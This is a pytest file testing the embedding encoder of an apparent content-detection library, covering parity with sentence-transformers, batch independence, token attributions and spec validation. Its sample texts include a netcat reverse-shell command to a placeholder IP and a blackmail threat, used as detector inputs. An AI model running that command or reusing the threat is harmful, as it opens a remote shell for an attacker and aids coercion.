"""The encoder: the full spec reproduces sentence-transformers, the fast one is exact per text
(no batch effects), and token contributions add up to a linear head's logit."""

from __future__ import annotations

import numpy as np
import pytest

from upright.detectors.ml import embed
from upright.errors import DetectorError

TEXTS = [
    "Cancel the wipe or your wife sees the photos. Lunch is at noon.",
    "bash command: nc -e /bin/sh 198.51.100.4 4444",
    "ok",
]


def test_full_spec_matches_sentence_transformers() -> None:
    st = pytest.importorskip("sentence_transformers")
    mine = embed.get_encoder(embed.FULL).encode(TEXTS)
    model = st.SentenceTransformer(str(embed.model_dir()), device="cpu")
    theirs = model.encode(TEXTS, normalize_embeddings=True)
    assert np.abs(mine - theirs).max() < 1e-5


def test_fast_encoding_does_not_depend_on_the_batch() -> None:
    encoder = embed.get_encoder(embed.FAST)
    encoder.clear_cache()
    together = encoder.encode(TEXTS)
    encoder.clear_cache()
    alone = np.vstack([encoder.encode([t]) for t in reversed(TEXTS)])[::-1]
    assert together.shape == (3, 768)
    assert np.array_equal(together, alone)
    assert np.allclose(np.linalg.norm(together[:, :384], axis=1), 1.0, atol=1e-5)


@pytest.mark.parametrize("spec", [embed.FULL, embed.FAST], ids=["full", "fast"])
def test_token_contributions_sum_to_the_logit(spec: embed.EncoderSpec) -> None:
    encoder = embed.get_encoder(spec)
    x = encoder.encode(TEXTS[:1])[0]
    tokens = encoder.tokens(TEXTS[0])
    w = np.random.default_rng(0).normal(size=spec.dim).astype(np.float32)
    share = tokens.contributions(w, spec.pooling)
    assert share.shape == (len(tokens.offsets),)
    assert abs(float(share.sum()) - float(x @ w)) < 1e-3
    start, end = tokens.offsets[1]
    assert TEXTS[0][start:end].lower() == "cancel"


def test_bad_specs_are_refused() -> None:
    with pytest.raises(DetectorError, match="layers"):
        embed.EncoderSpec(layers=7)
    with pytest.raises(DetectorError, match="pooling"):
        embed.EncoderSpec(pooling="cls")
    assert embed.EncoderSpec.from_dict(None) == embed.FULL
    assert embed.EncoderSpec.from_dict(embed.FAST.to_dict()) == embed.FAST
